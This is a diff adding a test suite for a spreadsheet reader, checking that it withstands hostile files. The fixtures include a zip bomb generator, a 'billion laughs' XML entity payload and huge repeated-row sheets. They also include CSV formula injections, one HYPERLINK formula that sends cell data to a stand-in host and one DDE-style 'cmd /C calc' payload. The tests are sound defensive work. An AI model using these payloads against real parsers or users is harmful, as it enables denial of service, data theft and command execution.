@@ -1,0 +1,215 @@
+import fs from 'node:fs/promises';
+import path from 'node:path';
+import zlib from 'node:zlib';
+import { describe, expect, it } from 'vitest';
+import { DEFAULT_LIMITS, readSheets, SpreadsheetError } from '../../src/lib/server/spreadsheets/index.ts';
+
+const SPREADSHEETS = path.resolve(import.meta.dirname, '../../../shared/fixtures/files/spreadsheets');
+
+interface Part {
+  name: string;
+  /** Deflated bytes (raw deflate). */
+  deflated: Buffer;
+  /** The uncompressed size the zip declares: a zip bomb lies about it. */
+  declaredSize: number;
+}
+
+const part = (name: string, text: string): Part => {
+  const data = Buffer.from(text, 'utf8');
+  return { name, deflated: zlib.deflateRawSync(data), declaredSize: data.length };
+};
+
+/** A zip of `parts`, CRCs left at zero (the reader relies on sizes and its own limits, not on them). */
+function zip(parts: Part[]): Uint8Array {
+  const chunks: Buffer[] = [];
+  const central: Buffer[] = [];
+  let offset = 0;
+  for (const { name, deflated, declaredSize } of parts) {
+    const fileName = Buffer.from(name, 'utf8');
+    const header = Buffer.alloc(30);
+    header.writeUInt32LE(0x04034b50, 0);
+    header.writeUInt16LE(8, 8);
+    header.writeUInt32LE(deflated.length, 18);
+    header.writeUInt32LE(declaredSize, 22);
+    header.writeUInt16LE(fileName.length, 26);
+    const entry = Buffer.alloc(46);
+    entry.writeUInt32LE(0x02014b50, 0);
+    entry.writeUInt16LE(8, 10);
+    entry.writeUInt32LE(deflated.length, 20);
+    entry.writeUInt32LE(declaredSize, 24);
+    entry.writeUInt16LE(fileName.length, 28);
+    entry.writeUInt32LE(offset, 42);
+    chunks.push(header, fileName, deflated);
+    central.push(entry, fileName);
+    offset += header.length + fileName.length + deflated.length;
+  }
+  const directory = Buffer.concat(central);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(parts.length, 8);
+  end.writeUInt16LE(parts.length, 10);
+  end.writeUInt32LE(directory.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return new Uint8Array(Buffer.concat([...chunks, directory, end]));
+}
+
+const MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
+const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+
+/** The parts of a one-sheet workbook; `extra` adds or replaces parts. */
+function xlsxParts(sheetData: string, extra: Part[] = [], sharedStrings = false): Part[] {
+  const parts = [
+    part('xl/workbook.xml', `<workbook ${MAIN} xmlns:r="${REL}"><sheets><sheet name="Hoja1" sheetId="1" r:id="rId1"/></sheets></workbook>`),
+    part(
+      'xl/_rels/workbook.xml.rels',
+      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>` +
+        `<Relationship Id="rId2" Type="${REL}/styles" Target="styles.xml"/>` +
+        (sharedStrings ? `<Relationship Id="rId3" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/>` : '') +
+        '</Relationships>',
+    ),
+    part('xl/styles.xml', `<styleSheet ${MAIN}/>`),
+    part('xl/worksheets/sheet1.xml', `<worksheet ${MAIN}><sheetData>${sheetData}</sheetData></worksheet>`),
+  ];
+  const replaced = new Set(extra.map((p) => p.name));
+  return [...parts.filter((p) => !replaced.has(p.name)), ...extra];
+}
+
+function odsContent(rows: string): Uint8Array {
+  return zip([
+    part('mimetype', 'application/vnd.oasis.opendocument.spreadsheet'),
+    part(
+      'content.xml',
+      '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ' +
+        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">' +
+        `<office:body><office:spreadsheet><table:table table:name="Hoja1">${rows}</table:table></office:spreadsheet></office:body></office:document-content>`,
+    ),
+  ]);
+}
+
+/** `megabytes` MiB of zeros between `prefix` and `suffix`, deflated as it streams (a thousandfold smaller), declared as 1 KB. */
+async function bomb(name: string, prefix: string, megabytes: number, suffix = ''): Promise<Part> {
+  const deflater = zlib.createDeflateRaw({ level: 9 });
+  const out: Buffer[] = [];
+  deflater.on('data', (chunk: Buffer) => out.push(chunk));
+  const done = new Promise((resolve) => deflater.on('end', resolve));
+  deflater.write(prefix);
+  const filler = Buffer.alloc(1 << 20, '0');
+  for (let i = 0; i < megabytes; i += 1) deflater.write(filler);
+  deflater.end(suffix);
+  await done;
+  return { name, deflated: Buffer.concat(out), declaredSize: 1024 };
+}
+
+describe('hostile spreadsheets', () => {
+  it('a zip bomb stops at the part limit, whatever the zip declares', async () => {
+    // 300 MiB of styles in a 300 KB file: the limit for a small part is 20 MB.
+    const styles = await bomb('xl/styles.xml', `<styleSheet ${MAIN}><numFmts><numFmt numFmtId="164" formatCode="`, 300);
+    const file = zip(xlsxParts('<row r="1"><c r="A1"><v>1</v></c></row>', [styles]));
+    expect(file.byteLength).toBeLessThan(400_000);
+    const started = performance.now();
+    await expect(readSheets(file)).rejects.toThrow(/xl\/styles\.xml pasa de 20000000 bytes/);
+    expect(performance.now() - started).toBeLessThan(5_000);
+  });
+
+  it('a zip bomb spread over several parts stops at the total limit', async () => {
+    // Two well-formed parts that each fit the part limit of this test, but not together.
+    const strings = await bomb('xl/sharedStrings.xml', `<sst ${MAIN}><si><t>`, 12, '</t></si></sst>');
+    const styles = await bomb('xl/styles.xml', `<styleSheet ${MAIN}><numFmts><numFmt numFmtId="164" formatCode="`, 12, '"/></numFmts></styleSheet>');
+    const file = zip(xlsxParts('<row r="1"><c r="A1"><v>1</v></c></row>', [strings, styles], true));
+    const limits = { ...DEFAULT_LIMITS, maxPartBytes: 15_000_000, maxMetadataBytes: 15_000_000, maxUncompressedBytes: 20_000_000 };
+    await expect(readSheets(file, limits)).rejects.toThrow(/más de 20000000 bytes descomprimidos/);
+  });
+
+  it('a sheet past the size limits keeps the rows read until then, marked truncated', async () => {
+    // 12 MiB of shared strings, then a 12 MiB sheet: the total limit of 20 MB falls inside the sheet.
+    const strings = await bomb('xl/sharedStrings.xml', `<sst ${MAIN}><si><t>`, 12, '</t></si><si><t>Santo Domingo</t></si></sst>');
+    const sheet = await bomb(
+      'xl/worksheets/sheet1.xml',
+      `<worksheet ${MAIN}><sheetData><row r="1"><c r="A1" t="s"><v>1</v></c><c r="B1" t="s"><v>0</v></c></row><row r="2"><c r="A2"><v>`,
+      12,
+      '</v></c></row></sheetData></worksheet>',
+    );
+    const limits = { ...DEFAULT_LIMITS, maxPartBytes: 15_000_000, maxUncompressedBytes: 20_000_000 };
+    const [only] = await readSheets(zip(xlsxParts('', [strings, sheet], true)), limits);
+    // B1, the 12 MiB string, is cut at Excel's 32,767 characters per cell.
+    expect(only).toMatchObject({ rows: 1, columns: 2, truncated: true, csv: `Santo Domingo,${'0'.repeat(32_767)}\r\n` });
+  });
+
+  it('the empty rows LibreOffice repeats to the end of a sheet are not expanded', async () => {
+    const started = performance.now();
+    const [sheet] = await readSheets(
+      odsContent(
+        '<table:table-row><table:table-cell office:value-type="string"><text:p>Provincia</text:p></table:table-cell>' +
+          '<table:table-cell table:number-columns-repeated="16383"/></table:table-row>' +
+          '<table:table-row><table:table-cell office:value-type="string"><text:p>Azua</text:p></table:table-cell></table:table-row>' +
+          '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>',
+      ),
+    );
+    expect(sheet).toMatchObject({ rows: 2, columns: 1, truncated: false, csv: 'Provincia\r\nAzua\r\n' });
+    expect(performance.now() - started).toBeLessThan(1_000);
+  });
+
+  it('a filled row repeated 1,048,576 times stops at the row limit, marked truncated', async () => {
+    const [sheet] = await readSheets(
+      odsContent(
+        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="3"/></table:table-row>',
+      ),
+    );
+    expect(sheet).toMatchObject({ rows: DEFAULT_LIMITS.maxRows, columns: 3, truncated: true });
+    expect(sheet!.csv.length).toBe(DEFAULT_LIMITS.maxRows * '1,1,1\r\n'.length);
+  });
+
+  it('cells beyond the column limit, and rows far below, cost nothing', async () => {
+    const [sheet] = await readSheets(
+      zip(xlsxParts('<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>2</v></c></row><row r="1048576"><c r="XFD1048576"><v>3</v></c></row>')),
+    );
+    // The cell at row 1,048,576 lies beyond the columns kept: the blank rows above it are not written.
+    expect(sheet).toMatchObject({ rows: 1, columns: 1, truncated: true, csv: '1\r\n' });
+  });
+
+  it('a string cell that looks like a formula stays text; formulas are never evaluated', async () => {
+    const injection = '=HYPERLINK("https://malo.example/?q="&A2,"Haga clic")';
+    const escaped = injection.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
+    const [sheet] = await readSheets(
+      zip(
+        xlsxParts(
+          '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t>+SUM(1+1)*cmd|\' /C calc\'!A0</t></is></c>' +
+            '<c r="C1" t="str"><f>CONCATENATE("=","1+1")</f><v>=1+1</v></c><c r="D1"><f>1/0</f></c><c r="E1" t="e"><v>#DIV/0!</v></c></row>',
+          [part('xl/sharedStrings.xml', `<sst ${MAIN}><si><t>${escaped}</t></si></sst>`)],
+          true,
+        ),
+      ),
+    );
+    expect(sheet!.csv).toBe('"=HYPERLINK(""https://malo.example/?q=""&A2,""Haga clic"")",+SUM(1+1)*cmd|\' /C calc\'!A0,=1+1,,#DIV/0!\r\n');
+  });
+
+  it('entities a DOCTYPE declares are never expanded ("billion laughs")', async () => {
+    const laughs =
+      '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">' +
+      '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>' +
+      `<sst ${MAIN}><si><t>&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;</t></si></sst>`;
+    const file = zip(xlsxParts('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', [part('xl/sharedStrings.xml', laughs)], true));
+    await expect(readSheets(file)).rejects.toThrow(/XML no válido en xl\/sharedStrings\.xml/);
+  });
+
+  it('damaged files are refused with a SpreadsheetError, never another error', async () => {
+    const real = new Uint8Array(await fs.readFile(path.join(SPREADSHEETS, 'cnss-recaudos-sfs-2003-2023.xlsx')));
+    const halved = real.slice(0, real.byteLength >> 1);
+    const noise = new Uint8Array(4096).map((_, i) => (i * 7919) % 251);
+    const damaged = real.slice();
+    // Overwrite the middle of the zip (inside the worksheet's deflated data) with garbage.
+    damaged.fill(0xff, 20_000, 21_000);
+    const badDirectory = real.slice();
+    badDirectory.fill(0x41, real.byteLength - 600, real.byteLength - 30);
+    const notAnOds = zip([part('mimetype', 'application/vnd.oasis.opendocument.text'), part('content.xml', '<x/>')]);
+    const unclosed = zip(xlsxParts('<row r="1"><c r="A1"><v>1</v></c>'));
+    for (const file of [new Uint8Array(0), noise, halved, damaged, badDirectory, notAnOds, unclosed]) {
+      await expect(readSheets(file)).rejects.toThrow(SpreadsheetError);
+    }
+  });
+
+  it('a reading that takes too long is stopped', async () => {
+    const file = new Uint8Array(await fs.readFile(path.join(SPREADSHEETS, 'one-primas-netas-seguros-2015-2023.xlsx')));
+    await expect(readSheets(file, { ...DEFAULT_LIMITS, timeoutMs: 0 })).rejects.toThrow(/interrumpida/);
+  });
+});
